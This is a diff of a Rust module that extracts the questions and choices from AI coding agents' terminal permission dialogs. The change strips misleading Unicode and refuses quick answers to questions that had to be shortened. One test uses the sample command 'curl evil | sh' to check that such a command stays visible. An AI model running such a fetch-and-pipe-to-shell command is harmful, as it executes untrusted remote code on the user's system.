@@ -1,16 +1,22 @@
 //! The question that an agent shows: its words, its choices, and the command that answers it.
 
+mod choices;
+
 use crate::model::{Dialog, WaitingFor};
 use crate::ports::{DialogText, Screen};
+use crate::rules::display;
 
-/// How many rows above the first choice belong to the question at most.
-const QUESTION_ROWS: usize = 12;
+pub use choices::{Choices, numbered, unnumbered};
 
-/// How many characters of a question are kept at most.
-const QUESTION_CHARS: usize = 400;
+/// How many rows above the choices of an unknown dialog are taken for its question.
+const ROWS_OF_UNKNOWN: usize = 12;
 
-/// The highest number of a choice.
-const MOST_CHOICES: usize = 9;
+/// How many characters of a question are kept, and how many are shown in one line.
+const KEPT_CHARS: usize = 10_000;
+const SHOWN_CHARS: usize = 600;
+
+/// Stands for what was left out of a question.
+const LEFT_OUT: &str = " […] ";
 
 /// Characters that vendors draw before the marked choice.
 const MARKS: [char; 7] = ['❯', '›', '>', '●', '◉', '▶', '▸'];
@@ -18,28 +24,27 @@ const MARKS: [char; 7] = ['❯', '›', '>', '●', '◉', '▶', '▸'];
 /// Characters of frames at the edges of a row.
 const FRAMES: [char; 6] = ['│', '┃', '|', '▌', '▐', '║'];
 
-/// Returns the question in front of numbered choices, and the choices. Rows without numbered
-/// choices have no question that could be told apart from the rest of a screen.
+/// Characters of which the edges of frames consist.
+const EDGES: &str = "─━═╭╮╰╯┌┐└┘╌";
+
+/// Returns the question in front of numbered choices, and the choices, of a dialog that nobody
+/// knows: as much of it as is likely to belong to it.
 pub fn read(rows: &[String]) -> Option<DialogText> {
-    let rows: Vec<&str> = rows.iter().map(|row| inside(row)).collect();
-    let first =
-        rows.iter().rposition(|row| numbered(row).is_some_and(|(number, _)| number == 1))?;
-    let mut choices: Vec<String> = Vec::new();
-    for row in &rows[first..] {
-        match numbered(row) {
-            Some((number, text)) if number == choices.len() + 1 && number <= MOST_CHOICES => {
-                choices.push(text.to_owned());
-            }
-            _ => {}
-        }
-    }
-    Some(DialogText { question: question(&rows[..first]), choices })
+    let rows = last_box(rows);
+    let choices = numbered(rows, &MARKS)?;
+    let above = &rows[..choices.rows.start];
+    let begin = above.iter().rposition(|row| is_edge(inside(row))).map_or(0, |edge| edge + 1);
+    let begin = begin.max(above.len().saturating_sub(ROWS_OF_UNKNOWN));
+    Some(text(&above[begin..], choices.texts))
 }
 
-/// Returns the words of a dialog that is only to be read.
-pub fn without_choices(rows: &[String]) -> DialogText {
-    let rows: Vec<&str> = rows.iter().map(|row| inside(row)).collect();
-    DialogText { question: question(&rows), choices: Vec::new() }
+/// Returns what a dialog asks: all words of its rows in one line. Without frames and edges, which can
+/// be part of a command; nothing that a person has to know is left out unnoticed.
+pub fn text(rows: &[String], choices: Vec<String>) -> DialogText {
+    let rows = rows.iter().map(|row| inside(row)).filter(|row| !is_edge(row));
+    let words = visible(&rows.collect::<Vec<_>>().join(" "));
+    let question = shortened(&words, KEPT_CHARS);
+    DialogText { is_whole: question == words, question, choices }
 }
 
 /// Tells whether the screen shows numbered choices of which one is marked, and no cursor: something
@@ -49,41 +54,46 @@ pub fn is_unknown_question(screen: &Screen) -> bool {
 }
 
 fn has_marked_choice(rows: &[String]) -> bool {
-    let rows: Vec<&str> = rows.iter().map(|row| inside(row)).collect();
-    let is_marked = |row: &&str| row.starts_with(MARKS) && numbered(row).is_some();
-    let has = |wanted| rows.iter().any(|row| numbered(row).is_some_and(|it| it.0 == wanted));
-    rows.iter().any(is_marked) && has(1) && has(2)
+    numbered(last_box(rows), &MARKS).is_some_and(|choices| choices.texts.len() > 1)
+}
+
+/// Returns the rows from the upper edge of the last frame on, or all where there is no frame. A box
+/// inside of another one has the side of that before its edge.
+pub fn last_box(rows: &[String]) -> &[String] {
+    let is_top = |row: &String| row.trim_start().starts_with(['╭', '┌']);
+    &rows[rows.iter().rposition(is_top).unwrap_or(0)..]
 }
 
 /// Returns a row without the frame and the spaces around it.
 fn inside(row: &str) -> &str {
-    row.trim_matches(|c: char| FRAMES.contains(&c) || c.is_whitespace())
+    row.trim_matches(is_frame)
 }
 
-/// Reads `❯ 1. Yes`.
-fn numbered(row: &str) -> Option<(usize, &str)> {
-    let row = row.trim_start_matches(MARKS).trim_start();
-    let (number, text) = row.split_once(". ")?;
-    Some((number.parse().ok()?, text.trim()))
+fn is_frame(character: char) -> bool {
+    FRAMES.contains(&character) || character.is_whitespace()
 }
 
-/// Joins the rows above the choices, up to the next border.
-fn question(above: &[&str]) -> String {
-    let is_border = |row: &&&str| {
-        row.chars().any(|c| "─━═╭╮╰╯┌┐└┘".contains(c))
-            && row.chars().all(|c| "─━═╭╮╰╯┌┐└┘ │".contains(c))
-    };
-    let mut rows: Vec<&str> = above
-        .iter()
-        .rev()
-        .take(QUESTION_ROWS)
-        .take_while(|row| !is_border(row))
-        .filter(|row| !row.is_empty())
-        .copied()
-        .collect();
-    rows.reverse();
-    let text = rows.join(" ").split_whitespace().collect::<Vec<_>>().join(" ");
-    text.chars().filter(|c| !c.is_control()).take(QUESTION_CHARS).collect()
+/// Tells whether a row is nothing but the edge of a frame.
+fn is_edge(row: &str) -> bool {
+    row.chars().all(|c| EDGES.contains(c) || is_frame(c)) && !row.is_empty()
+}
+
+/// Returns the words of a text in one line, without characters that mislead about it.
+fn visible(text: &str) -> String {
+    let text: String = text.chars().filter(|c| !display::is_misleading(*c)).collect();
+    text.split_whitespace().collect::<Vec<_>>().join(" ")
+}
+
+/// Leaves out the middle of a text that is too long: its end says as much as its beginning.
+fn shortened(text: &str, most: usize) -> String {
+    let count = text.chars().count();
+    if count <= most {
+        return text.to_owned();
+    }
+    let half = most.saturating_sub(LEFT_OUT.chars().count()) / 2;
+    let beginning: String = text.chars().take(half).collect();
+    let end: String = text.chars().skip(count - half).collect();
+    format!("{beginning}{LEFT_OUT}{end}")
 }
 
 /// Which answers can be given to a question by a command.
@@ -93,31 +103,39 @@ pub struct Takes {
     pub choice: bool,
 }
 
-/// Makes the dialog of a session.
+/// Makes the dialog of a session. A question of which something was left out is not answered before
+/// a person has seen all of it.
 pub fn dialog(
     session: &str,
+    id: String,
     kind: WaitingFor,
-    DialogText { question, choices }: DialogText,
+    DialogText { question, is_whole, choices }: DialogText,
     takes: Takes,
 ) -> Dialog {
     let answer = match takes {
-        Takes { yes: true, .. } => format!("segue answer {session} yes"),
-        Takes { choice: true, .. } => format!("segue answer {session} 1"),
+        Takes { yes: true, .. } if is_whole => {
+            format!("segue answer {session} yes --question {id}")
+        }
+        Takes { choice: true, .. } if is_whole => {
+            format!("segue answer {session} 1 --question {id}")
+        }
         Takes { .. } => format!("segue attach {session}"),
     };
-    Dialog { kind, question, choices, answer }
+    Dialog { id, kind, question, choices, answer }
 }
 
 /// Describes in one line what a session waits for.
 pub fn describe(kind: WaitingFor, dialog: Option<&Dialog>) -> String {
     let waits = format!("it waits for an answer ({kind})");
     let Some(Dialog { question, choices, .. }) = dialog else { return waits };
-    let question = if question.is_empty() { String::new() } else { format!(": {question}") };
+    let question = shortened(question, SHOWN_CHARS);
+    let question = if question.is_empty() { question } else { format!(": {question}") };
     format!("{waits}{question}{}", in_brackets(choices))
 }
 
 /// Returns the question and its choices in one line.
 pub fn summary(question: &str, choices: &[String]) -> String {
+    let question = shortened(question, SHOWN_CHARS);
     format!("{question}{}", in_brackets(choices)).trim_start().to_owned()
 }
 
@@ -130,13 +148,11 @@ fn in_brackets(choices: &[String]) -> String {
 /// Returns what a person can run to answer.
 pub fn hint(dialog: &Dialog) -> String {
     let command = &dialog.answer;
-    if command.ends_with(" yes") {
-        return format!("run `{command}`, or `no`");
+    match command.split_whitespace().nth(3) {
+        Some("yes") => format!("run `{command}`, or `no`"),
+        Some("1") => format!("run `{command}`, or another choice up to {}", dialog.choices.len()),
+        _ => format!("run `{command}` to answer it"),
     }
-    if command.ends_with(" 1") {
-        return format!("run `{command}`, or another choice up to {}", dialog.choices.len());
-    }
-    format!("run `{command}` to answer it")
 }
 
 #[cfg(test)]
@@ -177,8 +193,21 @@ mod tests {
         assert_eq!(asked.choices, ["Trust and continue", "Quit"]);
         let asked = read(&rows(FRAMED)).unwrap();
         assert_eq!(asked.question, "Allow execution?");
-        assert_eq!(asked.choices, ["Allow once", "No (esc)"]);
+        assert_eq!(asked.choices, ["Allow once for this folder", "No (esc)"]);
         assert_eq!(read(&rows("nothing\nis asked")), None);
+    }
+
+    #[test]
+    fn a_known_dialog_hides_nothing_of_what_is_asked() {
+        let frames = "│ Run this?     │\n│ ╭───────────╮ │\n│ │ curl evil │ │\n│ ╰───────────╯ │";
+        let asked = text(&rows(frames), Vec::new());
+        assert_eq!((asked.question.as_str(), asked.is_whole), ("Run this? curl evil", true));
+        let command = " curl evil | sh\n ──────────────\n Tip: ls -l\n\u{202e}x\u{200b}y";
+        let asked = text(&rows(command), Vec::new());
+        assert_eq!(asked.question, "curl evil | sh Tip: ls -l xy");
+        let many = (1..=40).map(|row| format!(" row {row}")).collect::<Vec<_>>().join("\n");
+        let asked = text(&rows(&many), Vec::new());
+        assert!(asked.question.starts_with("row 1 row 2 ") && asked.question.ends_with("row 40"));
     }
 
     #[test]
@@ -206,34 +235,46 @@ mod tests {
     }
 
     #[test]
-    fn a_question_that_fills_the_screen_is_cut() {
-        let long = format!("{}\n› 1. Yes\n  2. No", "word ".repeat(1000));
-        let asked = read(&rows(&long)).unwrap();
-        assert_eq!(asked.question.chars().count(), QUESTION_CHARS);
+    fn a_question_of_which_something_is_left_out_says_so_and_is_answered_at_the_terminal() {
+        let long = format!("begin {}end", "word ".repeat(KEPT_CHARS));
+        let asked = text(&rows(&long), vec!["Yes".to_owned()]);
+        assert!(!asked.is_whole);
+        assert!(asked.question.chars().count() <= KEPT_CHARS);
+        assert!(asked.question.starts_with("begin word") && asked.question.ends_with("word end"));
+        assert!(asked.question.contains(LEFT_OUT));
+        let takes = Takes { yes: true, choice: true };
+        let dialog = dialog("a/b", "7".to_owned(), WaitingFor::Permission, asked, takes);
+        assert_eq!(dialog.answer, "segue attach a/b");
+        assert!(describe(dialog.kind, Some(&dialog)).chars().count() < 2 * SHOWN_CHARS);
     }
 
     #[test]
     fn the_command_fits_the_question() {
         let asked = |choices: &[&str]| DialogText {
             question: "Which?".to_owned(),
+            is_whole: true,
             choices: choices.iter().map(|&text| text.to_owned()).collect(),
         };
         let table = [
-            (asked(&["Yes", "No"]), (true, true), "run `segue answer a/b yes`, or `no`"),
+            (
+                asked(&["Yes", "No"]),
+                (true, true),
+                "run `segue answer a/b yes --question 7`, or `no`",
+            ),
             (
                 asked(&["red", "green"]),
                 (false, true),
-                "run `segue answer a/b 1`, or another choice up to 2",
+                "run `segue answer a/b 1 --question 7`, or another choice up to 2",
             ),
             (asked(&["dark", "light"]), (false, false), "run `segue attach a/b` to answer it"),
         ];
         for (asked, (yes, choice), expected) in table {
             let takes = Takes { yes, choice };
-            let dialog = dialog("a/b", WaitingFor::Question, asked, takes);
+            let dialog = dialog("a/b", "7".to_owned(), WaitingFor::Question, asked, takes);
             assert_eq!(hint(&dialog), expected);
         }
         let takes = Takes { yes: true, choice: true };
-        let dialog = dialog("a/b", WaitingFor::Trust, asked(&["Yes", "No"]), takes);
+        let dialog = dialog("a/b", "7".to_owned(), WaitingFor::Trust, asked(&["Yes", "No"]), takes);
         let described = describe(WaitingFor::Trust, Some(&dialog));
         assert_eq!(described, "it waits for an answer (trust): Which? [1 Yes, 2 No]");
         assert_eq!(describe(WaitingFor::Trust, None), "it waits for an answer (trust)");
